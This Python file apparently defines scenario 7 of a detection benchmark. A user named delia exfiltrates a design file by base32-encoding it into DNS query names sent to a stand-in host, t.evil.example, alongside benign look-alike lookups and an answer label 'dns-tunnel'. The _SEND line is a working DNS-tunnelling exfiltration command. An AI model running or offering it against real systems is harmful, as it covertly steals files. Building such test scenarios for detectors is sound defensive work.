"""A file in the names of DNS questions, fifty letters each, to a name server of the sender's."""

from __future__ import annotations

from ..props import designs
from ..scenario import STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw

_LINES = 400
_ASK = f"busybox nslookup -type=a {{name}} {STRANGER} > /dev/null 2>&1"
_SEND = (
    f"base32 -w 50 /srv/designs/board.bin | head -n {_LINES} | tr A-Z= a-z0 | "
    f"while read -r part; do {_ASK.format(name='$part.t.evil.example')}; done"
)


def _twin(draw: Draw) -> tuple[Step, ...]:
    name = draw.one_of("4.3.$n.1.zen.blocklist.example", "img$n.cdn.example", "mx$n.mail.example")
    count = draw.number(120, 10, 200)
    return (Step("dieter", f"ssh dieter@db 'for n in $(seq {count}); do {_ASK.format(name=name)}; done'"),)


SCENARIO = Scenario(
    number=7,
    title="a file in the names of DNS questions",
    people=(Person("delia", ("db",)), Person("dieter", ("db",))),
    prepared=(designs("db"),),
    steps=(Step("delia", f"ssh delia@db '{_SEND}'"),),
    twin_title="many short names of a blocklist or a content network are asked for",
    twin=_twin,
    truth=Truth("delia", ("db",), ("dns-tunnel",)),
)
